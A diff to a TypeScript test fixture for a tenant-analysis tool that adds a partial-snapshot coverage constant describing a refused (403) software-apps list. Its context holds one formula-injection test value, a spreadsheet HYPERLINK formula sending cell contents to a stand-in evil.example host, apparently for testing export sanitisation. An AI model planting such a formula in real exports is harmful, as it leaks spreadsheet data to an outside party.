@@ -4,10 +4,29 @@
  * admin-like application, a dynamic group, and a user whose name a spreadsheet would run as a formula.
  */
 import type { TenantData } from '../../src/model/index.ts';
+import type { SnapshotMeta } from '../../src/snapshot/index.ts';
 import { SUDO, TenantBuilder } from '../analysis/tenant-builder.ts';
 
 /** A name that a spreadsheet would run as a formula. */
 export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+
+/** The coverage of a fetch the API refused one list: a partial snapshot's. */
+export const PARTIAL_COVERAGE: NonNullable<SnapshotMeta['coverage']> = {
+  complete: false,
+  planned: 10,
+  gaps: [
+    {
+      collection: 'list:v2:/softwareapps',
+      endpoint: 'GET /api/v2/softwareapps',
+      state: 'unread',
+      cause: 'http',
+      status: 403,
+      attempts: 1,
+      message: 'The API refused the list (403).',
+      provides: { kind: 'objects', types: ['software_app'] },
+    },
+  ],
+};
 
 export function reviewTenant(): TenantData {
   const b = new TenantBuilder();
